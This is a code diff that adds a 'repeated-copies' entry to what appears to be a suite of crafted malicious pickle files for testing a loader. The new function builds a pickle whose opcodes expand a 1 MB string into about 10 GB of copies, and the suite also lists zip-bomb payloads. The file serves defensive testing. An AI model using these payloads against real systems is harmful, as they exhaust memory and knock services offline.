@@ -104,6 +104,14 @@ def tuple_copies() -> bytes:
     return zip_records({"data.pkl": b"\x80\x02}" + pickle.dumps(KEY, 2)[2:-1] + body + b"s."})
 
 
+def repeated_copies() -> bytes:
+    """One 1 MB string encoded to bytes 10^4 times (10 GB of copies from a 1 MB file)."""
+    body = pickle.dumps("x" * 1_000_000, 2)[2:-1] + b"q\x000("
+    body += (_global("_codecs", "encode") + b"h\x00" + b"X\x06\x00\x00\x00latin1" + b"\x86R") * 10_000
+    body += b"l"
+    return zip_records({"data.pkl": b"\x80\x02}" + pickle.dumps(KEY, 2)[2:-1] + body + b"s."})
+
+
 def zip_bomb_pickle() -> bytes:
     """A `data.pkl` of 20 MB of NONE/POP opcodes, deflated to 20 KB."""
     data = b"\x80\x02" + b"N0" * 10_000_000 + b"}."
@@ -176,6 +184,7 @@ ATTACKS = {
     "stride-zero-view": stride_zero_view,
     "list-of-range": list_of_range,
     "tuple-copies": tuple_copies,
+    "repeated-copies": repeated_copies,
     "zip-bomb-pickle": zip_bomb_pickle,
     "zip-bomb-storage": zip_bomb_storage,
     "shared-references": shared_references,
